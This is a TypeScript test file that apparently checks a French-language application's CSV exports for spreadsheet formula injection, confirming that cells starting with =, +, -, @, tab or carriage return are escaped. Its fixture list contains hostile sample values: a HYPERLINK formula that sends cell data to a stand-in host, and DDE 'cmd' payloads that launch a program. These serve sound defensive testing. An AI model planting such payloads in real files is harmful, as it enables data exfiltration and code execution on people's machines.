// CSV formula injection: every CSV the application produces is opened in a spreadsheet. Text
// that came from people (an adviser's name in the caseloads table…) must never start a cell
// with = + - @ (or a tab / carriage return), which a spreadsheet would run as a formula.
// Exports found: the statistics downloads (/api/admin/stats, /api/statistiques, through
// src/server/stats/csv.ts) and the import model files (static text, src/server/imports/models.ts).
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DatabaseHandle } from "../db/client";
import { openTestDatabase } from "../testing/db";
import { makeUser } from "../testing/callers";
import { makeProfile } from "../testing/factories";
import { IMPORT_MODELS } from "../imports/models";
import { detectDelimiter } from "../lib/csv";
import { csvCell, csvText } from "../stats/csv";
import { statsCsvHttp } from "../stats/http";
import { STATS_TABLES } from "../stats/types";

const FORMULA_START = /^[=+\-@\t\r]/;
const NAMES: Array<[string, string]> = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', ""],
  ["+cmd|' /C calc'!A0", "Martin"],
  ["-2+3+cmd|' /C calc'!A0", ""],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "Roux"],
  ["", "=1+1"],
  ["\t=1+1", "Tab"],
  ["\r=1+1", "Retour"],
];

/** Every cell of a CSV as a spreadsheet reads it. */
function cells(text: string, delimiter = ";"): string[][] {
  return parse(text, { bom: true, delimiter, relax_column_count: true }) as string[][];
}

let h: DatabaseHandle;
beforeAll(async () => {
  h = await openTestDatabase();
});
afterAll(async () => {
  await h?.close();
});

describe("the statistics downloads", () => {
  it("an adviser's name that reads as a formula comes out guarded in the caseloads table", async () => {
    for (const [firstName, lastName] of NAMES) {
      const adviser = await makeUser(h.db, "adviser", { territoryCode: "blois", firstName, lastName });
      await makeProfile(h.db, "41018", { adviserId: adviser.id, territoryCode: "blois" });
    }
    const response = await statsCsvHttp(h.db, new URLSearchParams({ table: "caseloads" }), "admin");
    expect(response.status).toBe(200);
    const names = cells(response.body).slice(1).map((row) => row[0]!);
    for (const [firstName, lastName] of NAMES) {
      const shown = `${firstName} ${lastName}`.trim();
      // the name is there, behind the ' that makes a spreadsheet read it as text
      expect(names).toContain(FORMULA_START.test(shown) ? `'${shown}` : shown);
    }
    for (const name of names) expect(name).not.toMatch(FORMULA_START);
  });

  it.each(STATS_TABLES.map((t) => [t]))("no cell of the %s table starts like a formula (admin and public)", async (table) => {
    for (const audience of ["admin", "public"] as const) {
      // the admin-only tables: the public download refuses them (stats/outreach.db.test.ts, csv.test.ts)
      if (audience === "public" && (table === "caseloads" || table === "outreach")) continue;
      const response = await statsCsvHttp(h.db, new URLSearchParams({ table }), audience);
      expect(response.status).toBe(200);
      for (const row of cells(response.body)) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    }
  });
});

describe("the CSV writer", () => {
  it("any text comes back whole, with a ' in front when it would start a formula", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string({ maxLength: 30 }),
            fc.string({ unit: "grapheme", maxLength: 30 }),
            fc.constantFrom("=1+1", "+33 6", "-1", "@A1", "\t=1", "\r=1", '"=1"', ";=1", "\n=1", "'=1"),
            fc.integer(),
            fc.constant(null),
          ),
          { minLength: 1, maxLength: 6 },
        ),
        (row) => {
          const [read] = cells(csvText([row]));
          expect(read).toHaveLength(row.length);
          row.forEach((value, i) => {
            const text = value === null ? "" : String(value);
            expect(read![i]).toBe(FORMULA_START.test(text) ? `'${text}` : text);
            expect(read![i]).not.toMatch(FORMULA_START);
            expect(csvCell(value)).not.toMatch(FORMULA_START);
          });
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("the import model files", () => {
  it.each(Object.entries(IMPORT_MODELS))("the %s model holds no cell a spreadsheet would run", (_kind, model) => {
    const rows = cells(model.text, detectDelimiter(model.text));
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });
});
